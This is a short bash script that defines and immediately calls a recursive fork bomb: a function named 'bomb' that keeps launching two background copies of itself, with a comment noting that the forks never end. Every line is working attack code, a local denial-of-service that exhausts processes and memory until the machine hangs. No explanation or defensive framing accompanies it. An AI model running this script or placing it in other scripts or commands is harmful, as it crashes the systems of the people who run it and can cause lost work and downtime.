#!/bin/bash
# Forks without end; each one stays.
bomb() { bomb & bomb & wait; }
bomb
